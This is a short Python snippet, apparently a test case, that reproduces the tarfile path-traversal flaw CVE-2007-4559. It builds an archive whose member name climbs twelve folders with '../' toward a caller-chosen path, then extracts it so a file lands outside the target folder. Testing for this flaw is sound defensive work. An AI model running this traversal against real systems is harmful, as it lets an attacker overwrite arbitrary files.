# Tries: an archive whose members' names lead out of the folder that it is unpacked to.
# Origin: CVE-2007-4559 (tarfile).

import io, tarfile, os

data = io.BytesIO()
with tarfile.open(fileobj=data, mode="w") as archive:
    member = tarfile.TarInfo("../" * 12 + input["write"].lstrip("/"))
    member.size = 7
    archive.addfile(member, io.BytesIO(b"written"))
data.seek(0)
tarfile.open(fileobj=data).extractall(os.getcwd())
